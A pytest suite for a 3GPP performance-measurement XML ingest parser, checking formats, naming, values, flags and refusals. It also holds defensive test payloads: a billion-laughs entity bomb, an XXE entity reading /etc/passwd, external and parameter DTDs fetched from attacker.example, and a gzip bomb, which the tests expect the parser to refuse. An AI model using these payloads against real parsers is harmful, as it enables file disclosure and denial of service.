"""3GPP PM XML parser rules on crafted files: formats, naming, values, flags, refusals."""

from __future__ import annotations

import gzip
import io
import json
import time
from collections.abc import Mapping, Sequence

import pandas as pd
import pytest

from services.ingest.reasons import REASONS
from services.ingest.records import ParsedPayload
from services.ingest.sources.pm_xml import MAX_DECOMPRESSED_BYTES, parse, parse_pm_xml
from services.ingest.sources.pm_xml_rules import BATCH_TAG, RUN_TAG, Notes, PayloadRefused
from services.ingest.sources.pm_xml_runs import Collapsed
from services.ingest.sources.pm_xml_walk import walk_document

NS = {
    "32.435": "http://www.3gpp.org/ftp/specs/archive/32_series/32.435#measCollec",
    "28.532": "http://www.3gpp.org/ftp/specs/archive/28_series/28.532#measData",
}
ROOT = {"32.435": "measCollecFile", "28.532": "measDataFile"}
STAMP = {"32.435": "measCollec", "28.532": "measData"}
ENTITY = {"32.435": "managedElement", "28.532": "measEntity"}
END = "2026-11-20T11:45:00Z"
PERIOD = pd.Timestamp(END)
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
CELL = "ManagedElement=S1,EUtranCellFDD=C1"
CELL2 = "ManagedElement=S1,EUtranCellFDD=C2"
ROOTED = f"DC=op.example,SubNetwork=N,{CELL}"


def meas_info(
    values: Mapping[str, Sequence[str | None]],
    *,
    counters: Sequence[str] = ("a", "b", "c"),
    form: str = "r",
    end: str | None = END,
    duration: str = "PT900S",
    suspect: Mapping[str, str] | None = None,
    info_id: str = "info-1",
) -> str:
    """One measInfo: `values` maps measObjLdn -> values (None = empty <r/>)."""
    period = "" if end is None else f'<granPeriod endTime="{end}" duration="{duration}"/>'
    if form == "r":
        types = "".join(f'<measType p="{i}">{c}</measType>' for i, c in enumerate(counters, 1))
    else:
        types = f"<measTypes>{' '.join(counters)}</measTypes>"
    body = []
    for ldn, row in values.items():
        if form == "r":
            results = "".join(
                f'<r p="{i}"/>' if v is None else f'<r p="{i}">{v}</r>'
                for i, v in enumerate(row, 1)
            )
        else:
            results = f"<measResults>{' '.join(v or '' for v in row)}</measResults>"
        flag = f"<suspect>{suspect[ldn]}</suspect>" if suspect and ldn in suspect else ""
        body.append(f'<measValue measObjLdn="{ldn}">{results}{flag}</measValue>')
    return (
        f'<measInfo measInfoId="{info_id}"><job jobId="1"/>{period}{types}{"".join(body)}'
        "</measInfo>"
    )


def pm_file(
    *infos: str,
    fmt: str = "32.435",
    prefix: str | None = "SubNetwork=North",
    vendor: str | None = "Acme",
    sw: str | None = "R1",
    header: bool = True,
    entity: bool = True,
    meas_data: bool = True,
    declaration: str = DECLARATION,
) -> bytes:
    """A whole PM file of format `fmt` around the given measInfo blocks."""
    stamp, root = STAMP[fmt], ROOT[fmt]
    attrs = f' fileFormatVersion="{fmt} V10.0"'
    attrs += f' vendorName="{vendor}"' if vendor is not None else ""
    attrs += f' dnPrefix="{prefix}"' if prefix is not None else ""
    head = (
        f'<fileHeader{attrs}><fileSender/><{stamp} beginTime="2026-11-20T11:30:00Z"/></fileHeader>'
        if header
        else ""
    )
    element = ""
    if entity:
        element = f'<{ENTITY[fmt]} localDn="S1"' + (f' swVersion="{sw}"/>' if sw else "/>")
    data = f"<measData>{element}{''.join(infos)}</measData>" if meas_data else ""
    foot = f'<fileFooter><{stamp} endTime="{END}"/></fileFooter>'
    return f'{declaration}<{root} xmlns="{NS[fmt]}">{head}{data}{foot}</{root}>'.encode()


def simple(fmt: str = "32.435", form: str = "r", **kwargs: object) -> bytes:
    """Two cells, three counters each."""
    info = meas_info({CELL: ["86", "67", "14"], CELL2: ["1", "2", "3"]}, form=form)
    return pm_file(info, fmt=fmt, **kwargs)  # type: ignore[arg-type]


def refusal(parsed: ParsedPayload) -> str:
    """The reason code of a whole-file refusal (asserting it is one)."""
    assert parsed.records.empty
    assert len(parsed.rejected) == 1, parsed.rejected
    rejected = parsed.rejected[0]
    assert rejected.reason_code in REASONS
    assert set(rejected.record) == {"file", "error", "head"}
    assert len(rejected.record["head"]) <= 200
    return rejected.reason_code


def rows(parsed: ParsedPayload) -> list[tuple[str, str, str]]:
    return list(parsed.records[["dn", "kpi", "value"]].itertuples(index=False, name=None))


@pytest.mark.parametrize("fmt", ["32.435", "28.532"])
@pytest.mark.parametrize("form", ["r", "measResults"])
def test_both_formats_and_both_value_forms_give_the_same_records(fmt: str, form: str) -> None:
    parsed = parse_pm_xml(simple(fmt, form), name="f.xml")
    full = f"SubNetwork=North,{CELL}"
    assert rows(parsed) == [
        (full, "a", "86"),
        (full, "b", "67"),
        (full, "c", "14"),
        (f"SubNetwork=North,{CELL2}", "a", "1"),
        (f"SubNetwork=North,{CELL2}", "b", "2"),
        (f"SubNetwork=North,{CELL2}", "c", "3"),
    ]
    records = parsed.records
    assert (records["period_end"] == PERIOD).all()
    assert str(records["period_end"].dtype).endswith("UTC]")
    assert set(records["vendor"]) == {"Acme"}
    assert set(records["sw_version"]) == {"R1"}
    assert not records["suspect"].any()
    assert set(records["granularity_s"]) == {900}
    assert parsed.rejected == []
    meta = parsed.meta
    assert meta["format"] == fmt
    assert meta["vendor"] == "Acme"
    assert meta["sw_versions"] == ["R1"]
    assert meta["counters"] == ["a", "b", "c"]
    assert meta["elements"] == 2
    assert meta["begin_time"] == "2026-11-20T11:30:00+00:00"
    assert meta["end_time"] == "2026-11-20T11:45:00+00:00"
    json.dumps(meta)


@pytest.mark.parametrize(
    ("prefix", "ldn", "dn"),
    [
        ("SubNetwork=North", CELL, f"SubNetwork=North,{CELL}"),
        ("SubNetwork=North", f"SubNetwork=North,{CELL}", f"SubNetwork=North,{CELL}"),
        ("SubNetwork=North", f"subnetwork=North, {CELL}", f"subnetwork=North, {CELL}"),
        ("SubNetwork=North", ROOTED, ROOTED),
        (None, CELL, CELL),
        ("", CELL, CELL),
        ("some dnPrefix", "some measObjLdn", "some measObjLdn"),
        ("DC=a.com,SubNetwork=1", " RncFunction=1 ", "DC=a.com,SubNetwork=1,RncFunction=1"),
        ("SubNetwork=North", "", ""),
    ],
)  # fmt: skip
def test_object_name_is_prefix_plus_local_dn_unless_already_absolute(
    prefix: str | None, ldn: str, dn: str
) -> None:
    parsed = parse_pm_xml(pm_file(meas_info({ldn: ["1"]}, counters=["a"]), prefix=prefix))
    assert list(parsed.records["dn"]) == [dn]


def test_a_prefix_that_is_not_a_dn_is_noted() -> None:
    parsed = parse_pm_xml(pm_file(meas_info({"x": ["1"]}, counters=["a"]), prefix="some dnPrefix"))
    assert any("dnPrefix 'some dnPrefix'" in note for note in parsed.meta["notes"])


def test_blank_nil_and_null_values_are_kept_empty_for_the_pipeline_to_refuse() -> None:
    info = meas_info({CELL: ["", "  ", None, "NIL", "NULL", " NIL ", "7"]}, counters="abcdefg")
    parsed = parse_pm_xml(pm_file(info))
    assert list(parsed.records["value"]) == ["", "", "", "", "", "", "7"]
    assert list(parsed.records["kpi"]) == list("abcdefg")
    assert parsed.received == 7


def test_nil_in_the_space_separated_form_is_empty() -> None:
    parsed = parse_pm_xml(pm_file(meas_info({CELL: ["1", "NIL", "3"]}, form="measResults")))
    assert list(parsed.records["value"]) == ["1", "", "3"]


def test_histogram_values_become_one_record_per_bin_in_file_order() -> None:
    info = meas_info({CELL: ["5", "1,2,0,5", "9"], CELL2: ["4", "7,,3", "6"]})
    parsed = parse_pm_xml(pm_file(info))
    assert [k for _, k, _ in rows(parsed)][:7] == [
        "a", "b.bin0", "b.bin1", "b.bin2", "b.bin3", "c", "a",
    ]  # fmt: skip
    assert [v for _, _, v in rows(parsed)] == ["5", "1", "2", "0", "5", "9", "4", "7", "", "3", "6"]
    assert parsed.meta["histograms"] == {"b": 4}
    assert parsed.meta["counters"] == ["a", "b", "c"]
    assert parsed.received == 11
    assert parsed.records["period_end"].notna().all()


def test_histogram_in_measresults_form() -> None:
    parsed = parse_pm_xml(pm_file(meas_info({CELL: ["1", "3,4", "5"]}, form="measResults")))
    assert [k for _, k, _ in rows(parsed)] == ["a", "b.bin0", "b.bin1", "c"]


@pytest.mark.parametrize(
    ("flag", "suspect", "noted"),
    [("true", True, False), ("1", True, False), ("false", False, False), ("0", False, False),
     ("maybe", True, True), ("", True, True)],
)  # fmt: skip
def test_suspect_flag(flag: str, suspect: bool, noted: bool) -> None:
    info = meas_info({CELL: ["1", "2", "3"], CELL2: ["4", "5", "6"]}, suspect={CELL: flag})
    parsed = parse_pm_xml(pm_file(info))
    by_dn = parsed.records.groupby("dn")["suspect"].agg(set).to_dict()
    assert by_dn == {f"SubNetwork=North,{CELL}": {suspect}, f"SubNetwork=North,{CELL2}": {False}}
    assert any("suspect flag" in note for note in parsed.meta["notes"]) is noted


def test_a_value_whose_position_names_no_counter_is_refused_alone() -> None:
    xml = pm_file(meas_info({CELL: ["1", "2", "3"]})).replace(
        b'<r p="3">3</r>', b'<r p="3">3</r><r p="9">99</r><r>5</r><r p="02">22</r>'
    )
    parsed = parse_pm_xml(xml, name="f.xml")
    assert rows(parsed) == [
        (f"SubNetwork=North,{CELL}", "a", "1"),
        (f"SubNetwork=North,{CELL}", "b", "2"),
        (f"SubNetwork=North,{CELL}", "c", "3"),
        (f"SubNetwork=North,{CELL}", "b", "22"),
    ]
    assert [r.reason_code for r in parsed.rejected] == ["unknown_counter_position"] * 2
    first = parsed.rejected[0]
    assert first.field == "p"
    assert first.record["p"] == "9"
    assert first.record["value"] == "99"
    assert first.record["dn"] == f"SubNetwork=North,{CELL}"
    assert first.record["file"] == "f.xml"
    assert first.record["period_end"] == "2026-11-20T11:45:00+00:00"
    assert "p=9" in (first.reason or "")
    assert parsed.received == 6


@pytest.mark.parametrize("p", ["²", "٣", "1" * 5000, "-1", "1.0", ""])
def test_positions_that_are_not_plain_numbers_name_no_counter(p: str) -> None:
    xml = simple().replace(b'<r p="1">86</r>', f'<r p="{p}">86</r>'.encode())
    parsed = parse_pm_xml(xml)
    assert len(parsed.records) == 5
    assert [r.reason_code for r in parsed.rejected] == ["unknown_counter_position"]


@pytest.mark.parametrize("encoding", ["bogus", "UTF-16", "EBCDIC", "x" * 5000])
def test_a_declared_encoding_that_does_not_fit_is_malformed(encoding: str) -> None:
    xml = simple().replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode())
    assert refusal(parse_pm_xml(xml)) == "malformed_payload"


def test_latin1_files_are_read() -> None:
    xml = simple().replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
    xml = xml.replace(b'vendorName="Acme"', 'vendorName="Ñokia"'.encode("latin-1"))
    assert set(parse_pm_xml(xml).records["vendor"]) == {"Ñokia"}


def test_a_position_declared_twice_for_different_counters_is_refused() -> None:
    xml = pm_file(meas_info({CELL: ["1", "2"]}, counters=["a", "b"])).replace(
        b'<measType p="2">b</measType>', b'<measType p="2">b</measType><measType p="2">x</measType>'
    )
    parsed = parse_pm_xml(xml)
    assert rows(parsed) == [(f"SubNetwork=North,{CELL}", "a", "1")]
    assert [r.reason_code for r in parsed.rejected] == ["unknown_counter_position"]


def test_results_and_types_of_different_length_refuse_every_value_of_the_object() -> None:
    info = meas_info({CELL: ["1", "2"], CELL2: ["4", "5", "6"]}, form="measResults")
    parsed = parse_pm_xml(pm_file(info))
    assert [k for _, k, _ in rows(parsed)] == ["a", "b", "c"]
    assert [r.reason_code for r in parsed.rejected] == ["result_count_mismatch"] * 2
    assert [r.record["value"] for r in parsed.rejected] == ["1", "2"]
    assert parsed.rejected[0].reason == "measResults holds 2 values for 3 counters"


def test_empty_measresults_reports_nothing_like_a_measvalue_without_r() -> None:
    parsed = parse_pm_xml(pm_file(meas_info({CELL: [], CELL2: []}, form="measResults")))
    assert parsed.received == 0
    assert "empty measResults" in parsed.meta["notes"]


@pytest.mark.parametrize(
    "before",
    [
        b'<?xml-stylesheet type="text/xsl" href="MeasDataCollection.xsl"?>\n',
        b"\n\n   ",
        b"\xef\xbb\xbf\n",
        b"<!-- produced by OSS -->\n<?xml-stylesheet href='x.xsl'?>",
    ],
    ids=["stylesheet", "whitespace", "bom", "comment-and-stylesheet"],
)
def test_instructions_or_whitespace_before_the_declaration_are_dropped_and_noted(
    before: bytes,
) -> None:
    parsed = parse_pm_xml(before + simple())
    assert len(parsed.records) == 6
    assert parsed.rejected == []
    if before.strip(b"\xef\xbb\xbf \n"):
        assert any("before the XML declaration" in note for note in parsed.meta["notes"])


def test_a_stylesheet_after_the_declaration_is_plain_xml() -> None:
    xml = simple().replace(DECLARATION.encode(), DECLARATION.encode() + b"<?xml-stylesheet?>")
    parsed = parse_pm_xml(xml)
    assert len(parsed.records) == 6
    assert parsed.meta["notes"] == []


def test_content_before_the_declaration_other_than_instructions_is_malformed() -> None:
    assert refusal(parse_pm_xml(b"<junk/>" + simple())) == "malformed_payload"


def test_gzip_payload_reads_like_the_plain_file() -> None:
    plain = parse_pm_xml(simple())
    packed = parse_pm_xml(gzip.compress(simple()), name="f.xml.gz")
    pd.testing.assert_frame_equal(plain.records, packed.records)
    assert "gzip" in packed.meta["notes"]


@pytest.mark.parametrize(
    "payload",
    [
        gzip.compress(simple(), mtime=0)[:-12],
        gzip.compress(simple(), mtime=0)[:40],
        b"\x1f\x8b" + b"\x00" * 40,
        gzip.compress(b"not xml at all", mtime=0),
    ],
    ids=["no-trailer", "truncated", "magic-then-nonsense", "not-xml-inside"],
)
def test_broken_gzip_is_malformed(payload: bytes) -> None:
    assert refusal(parse_pm_xml(payload)) == "malformed_payload"


def test_gzip_inflating_past_the_limit_is_refused_without_inflating_it_whole() -> None:
    many = meas_info({f"{CELL}{i}": ["1", "2", "3"] for i in range(20_000)})
    payload = gzip.compress(pm_file(many))
    assert len(pm_file(many)) > 2 * 1024 * 1024
    parsed = parse_pm_xml(payload, max_bytes=1024 * 1024)
    assert refusal(parsed) == "payload_too_large"
    assert parsed.rejected[0].record["head"].startswith("<?xml")
    assert MAX_DECOMPRESSED_BYTES == 512 * 1024 * 1024


def test_a_gzip_bomb_of_zeros_is_refused_at_the_first_chunk() -> None:
    bomb = gzip.compress(b"\x00" * (64 * 1024 * 1024), compresslevel=9)
    started = time.perf_counter()
    parsed = parse_pm_xml(bomb)
    assert time.perf_counter() - started < 2
    assert refusal(parsed) in ("malformed_payload", "unsupported_format")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<measCollecFile xmlns="http://www.3gpp.org/ftp/specs/archive/32_series/32.435#measCollec">
<fileHeader vendorName="&lol9;" fileFormatVersion="1"/><measData><managedElement/>
<measInfo><measType p="1">a</measType><measValue measObjLdn="x"><r p="1">&lol9;</r></measValue>
</measInfo></measData></measCollecFile>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE measCollecFile [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<measCollecFile xmlns="http://www.3gpp.org/ftp/specs/archive/32_series/32.435#measCollec">
<fileHeader vendorName="&xxe;" fileFormatVersion="1"/></measCollecFile>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE measCollecFile SYSTEM "http://attacker.example/evil.dtd">
<measCollecFile xmlns="http://www.3gpp.org/ftp/specs/archive/32_series/32.435#measCollec"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><r/>"""


@pytest.mark.parametrize(
    "payload",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        gzip.compress(BILLION_LAUGHS, mtime=0),
        b'<?xml-stylesheet href="x"?>' + BILLION_LAUGHS,
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "gzip", "pi"],
)
def test_dtds_and_entities_are_refused_quickly(payload: bytes) -> None:
    started = time.perf_counter()
    parsed = parse_pm_xml(payload)
    assert time.perf_counter() - started < 1
    assert refusal(parsed) == "unsafe_xml"
    assert parsed.rejected[0].record["head"].startswith("<?xml")


def test_a_prolog_too_long_to_check_for_a_dtd_is_refused() -> None:
    padded = b"<?xml version='1.0'?><!--" + b"x" * 100_000 + b"-->" + BILLION_LAUGHS[22:]
    assert refusal(parse_pm_xml(padded)) == "malformed_payload"
    assert refusal(parse_pm_xml(gzip.compress(padded))) == "malformed_payload"


def test_the_parser_refuses_a_dtd_the_prolog_check_did_not_see() -> None:
    # The prolog check reads bytes; the parser's document info is checked as well.
    with pytest.raises(PayloadRefused, match="DTD") as caught:
        walk_document(io.BytesIO(EXTERNAL_DTD), name="x", notes=Notes())
    assert caught.value.code == "unsafe_xml"


def test_an_undeclared_entity_is_malformed() -> None:
    xml = simple().replace(b">86<", b">&xxe;<")
    assert refusal(parse_pm_xml(xml)) == "malformed_payload"


def test_character_references_are_read() -> None:
    xml = simple().replace(b">86<", b">&#56;&#54;<")
    assert rows(parse_pm_xml(xml))[0][2] == "86"


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        (b"", "malformed_payload"),
        (b"   \n", "malformed_payload"),
        (b"\x00\x01\x02garbage", "unsupported_format"),
        (b"definitely not xml", "malformed_payload"),
        (b'{"event": {}}', "malformed_payload"),
        (simple()[:-40], "malformed_payload"),
        (simple()[: len(simple()) // 2], "malformed_payload"),
        (simple().replace(b"</measValue>", b"", 1), "malformed_payload"),
        (b"<html><body>503 Service Unavailable</body></html>", "unsupported_format"),
        (simple().replace(NS["32.435"].encode(), NS["28.532"].encode()), "unsupported_format"),
        (simple().decode().encode("utf-16"), "unsupported_format"),
        (simple(header=False), "missing_field"),
        (simple(entity=False), "missing_field"),
        (simple(fmt="28.532", entity=False), "missing_field"),
    ],
    ids=[
        "empty",
        "blank",
        "binary",
        "text",
        "json",
        "truncated-end",
        "truncated-half",
        "unclosed-element",
        "html",
        "wrong-namespace",
        "utf-16",
        "no-header",
        "no-managed-element",
        "no-meas-entity",
    ],
)
def test_files_that_cannot_be_read_are_one_refusal_never_an_exception(
    payload: bytes, code: str
) -> None:
    assert refusal(parse_pm_xml(payload, name="bad.xml")) == code


def test_refusal_keeps_the_file_name_error_and_head() -> None:
    parsed = parse_pm_xml(simple(header=False), name="A2026.xml")
    rejected = parsed.rejected[0]
    assert rejected.record["file"] == "A2026.xml"
    assert rejected.field == "fileHeader"
    assert rejected.record["head"].startswith("<?xml")
    assert parsed.meta["refused"] == "missing_field"
    assert parsed.meta["format"] == "32.435"


def test_a_root_without_namespace_is_read_with_a_note() -> None:
    xml = simple().replace(f' xmlns="{NS["32.435"]}"'.encode(), b"")
    parsed = parse_pm_xml(xml)
    assert len(parsed.records) == 6
    assert any("no namespace" in note for note in parsed.meta["notes"])


def test_a_prefixed_namespace_is_read() -> None:
    xml = simple().decode()
    xml = xml.replace("<", "<mc:").replace("<mc:/", "</mc:").replace("<mc:?", "<?")
    xml = xml.replace('xmlns="', 'xmlns:mc="')
    assert len(parse_pm_xml(xml.encode()).records) == 6


@pytest.mark.parametrize("fmt", ["32.435", "28.532"])
def test_a_header_without_measdata_is_valid_and_empty(fmt: str) -> None:
    parsed = parse_pm_xml(pm_file(fmt=fmt, meas_data=False))
    assert parsed.received == 0
    assert parsed.meta["format"] == fmt
    assert any("no measurements" in note for note in parsed.meta["notes"])


def test_measdata_without_measinfo_is_valid_and_empty() -> None:
    parsed = parse_pm_xml(pm_file())
    assert parsed.received == 0


def test_period_end_is_converted_to_utc() -> None:
    info = meas_info({CELL: ["1"]}, counters=["a"], end="2026-11-20T13:45:00+02:00")
    parsed = parse_pm_xml(pm_file(info))
    assert parsed.records["period_end"].iloc[0] == PERIOD


@pytest.mark.parametrize(
    "end",
    [
        "2026-11-20T11:45:00",
        "yesterday",
        "",
        "0001-01-01T00:00:00+01:00",
        "9999-12-31T23:59:59-01:00",
    ],
)
def test_a_period_end_without_offset_is_left_empty_and_noted(end: str) -> None:
    parsed = parse_pm_xml(pm_file(meas_info({CELL: ["1"]}, counters=["a"], end=end)))
    assert parsed.records["period_end"].isna().all()
    assert any("granPeriod endTime" in note for note in parsed.meta["notes"])


def test_a_measinfo_without_granperiod_has_no_period_end() -> None:
    parsed = parse_pm_xml(pm_file(meas_info({CELL: ["1"]}, counters=["a"], end=None)))
    assert parsed.records["period_end"].isna().all()
    assert len(parsed.records) == 1


@pytest.mark.parametrize(
    ("duration", "seconds"),
    [("PT900S", 900), ("PT15M", 900), ("PT1H", 3600), ("P1D", 86400), ("PT0.5S", 0),
     ("some duration", None), ("P", None), ("P" + "9" * 30 + "D", None)],
)  # fmt: skip
def test_granularity_from_the_iso_duration(duration: str, seconds: int | None) -> None:
    info = meas_info({CELL: ["1"]}, counters=["a"], duration=duration)
    value = parse_pm_xml(pm_file(info)).records["granularity_s"].iloc[0]
    assert (value is pd.NA) if seconds is None else (value == seconds)


def test_each_measdata_has_its_own_software_version() -> None:
    first = simple()
    second = first.replace(b'swVersion="R1"', b'swVersion="R2"').decode()
    block = second[second.index("<measData>") : second.index("</measData>") + 11]
    xml = first.replace(b"<fileFooter>", block.encode() + b"<fileFooter>")
    parsed = parse_pm_xml(xml)
    assert list(parsed.records["sw_version"]) == ["R1"] * 6 + ["R2"] * 6
    assert parsed.meta["sw_versions"] == ["R1", "R2"]


def test_missing_software_version_and_vendor_are_empty() -> None:
    parsed = parse_pm_xml(simple(sw=None, vendor=None))
    assert parsed.records["sw_version"].isna().all()
    assert parsed.records["vendor"].isna().all()
    assert parsed.meta["sw_versions"] == []


def test_unknown_children_of_a_measvalue_are_noted() -> None:
    xml = simple().replace(b'<r p="1">86</r>', b'<r p="1">86</r><vendorExt>5</vendorExt>')
    parsed = parse_pm_xml(xml)
    assert len(parsed.records) == 6
    assert any("vendorExt" in note for note in parsed.meta["notes"])


def test_comments_and_cdata_inside_values_are_read_as_text() -> None:
    xml = simple().replace(b">86<", b">8<!-- c -->6<").replace(b">67<", b"><![CDATA[67]]><")
    assert [v for _, _, v in rows(parse_pm_xml(xml))][:2] == ["86", "67"]


def test_many_objects_stream_through() -> None:
    info = meas_info({f"{CELL}{i}": [str(i), "", "1,2"] for i in range(5_000)})
    parsed = parse_pm_xml(pm_file(info))
    assert len(parsed.records) == 5_000 * 4
    assert parsed.meta["elements"] == 5_000
    assert (parsed.records["value"] == "").sum() == 5_000


def test_notes_are_capped() -> None:
    infos = [
        meas_info({CELL: ["1"]}, counters=["a"], duration=f"bad{i}", info_id=str(i))
        for i in range(80)
    ]
    notes = parse_pm_xml(pm_file(*infos)).meta["notes"]
    assert len(notes) == 51
    assert notes[-1] == "further notes left out"


def collapsed(payload: bytes) -> bytes:
    stream = Collapsed(io.BytesIO(payload))
    return b"".join(iter(lambda: stream.read(1000), b""))


def test_plain_measvalues_reach_the_parser_as_one_element_per_batch() -> None:
    out = collapsed(simple())
    assert out.count(BATCH_TAG.encode()) == 2  # one batch for both objects: open and close
    assert b"<measValue" not in out
    assert b"ManagedElement=S1,EUtranCellFDD=C1\t\t1 2 3\t86|67|14\n" in out


def test_other_measvalues_keep_their_element_and_collapse_their_runs() -> None:
    xml = simple().replace(b"<measValue ", b'<measValue vendorExt="1" ', 1)
    out = collapsed(xml)
    assert out.count(RUN_TAG.encode()) == 2
    assert b'p="1 2 3">86|67|14<' in out
    assert out.count(BATCH_TAG.encode()) == 2  # the second object is still plain
    assert rows(parse_pm_xml(xml)) == rows(parse(xml, collapse=False))


def test_an_unreadable_suspect_flag_keeps_its_measvalue_element() -> None:
    xml = pm_file(meas_info({CELL: ["1", "2", "3"]}, suspect={CELL: "maybe"}))
    assert BATCH_TAG.encode() not in collapsed(xml)
    assert any("suspect flag" in note for note in parse_pm_xml(xml).meta["notes"])


def test_values_that_are_not_plain_text_stay_elements_in_their_place() -> None:
    xml = simple().replace(b">67<", b">6&#55;<")
    out = collapsed(xml)
    assert b'<r p="2">6&#55;</r>' in out
    assert rows(parse_pm_xml(xml))[:3] == [
        (f"SubNetwork=North,{CELL}", "a", "86"),
        (f"SubNetwork=North,{CELL}", "b", "67"),
        (f"SubNetwork=North,{CELL}", "c", "14"),
    ]


def test_nothing_is_collapsed_after_a_cdata_section() -> None:
    xml = simple().replace(b"<fileSender/>", b"<fileSender><![CDATA[<r p='1'>]]></fileSender>")
    assert RUN_TAG.encode() not in collapsed(xml)
    assert len(parse_pm_xml(xml).records) == 6


def test_wide_objects_and_long_values_read_the_same_collapsed_or_not() -> None:
    counters = [f"pmC{i}" for i in range(2_500)]
    row = [str(i) if i % 7 else "x" * 70 for i in range(2_500)]
    xml = pm_file(meas_info({CELL: row, CELL2: row[::-1]}, counters=counters))
    plain, fast = parse(xml, collapse=False), parse(xml)
    pd.testing.assert_frame_equal(plain.records, fast.records)
    assert len(fast.records) == 5_000
    assert fast.records["value"].iloc[7] == "x" * 70


def test_a_long_run_of_wide_objects_stays_within_parser_limits() -> None:
    counters = [f"pmC{i}" for i in range(1_000)]
    row = ["9" * 64] * 1_000
    xml = pm_file(meas_info({f"{CELL}{i}": row for i in range(120)}, counters=counters))
    parsed = parse_pm_xml(xml)
    assert "refused" not in parsed.meta
    assert len(parsed.records) == 120_000


@pytest.mark.parametrize(
    "element",
    [
        f"<{BATCH_TAG}>only\tthree\tfields</{BATCH_TAG}>",
        f"<{BATCH_TAG}>x\t\t1 2\t5</{BATCH_TAG}>",
        f'<measValue measObjLdn="x"><{RUN_TAG} p="1 2">5</{RUN_TAG}></measValue>',
    ],
    ids=["batch-fields", "batch-values", "run-values"],
)
def test_a_collapsed_element_out_of_shape_is_refused_not_misread(element: str) -> None:
    xml = simple().replace(b"</measInfo>", element.encode() + b"</measInfo>", 1)
    assert refusal(parse(xml, collapse=False)) == "malformed_payload"
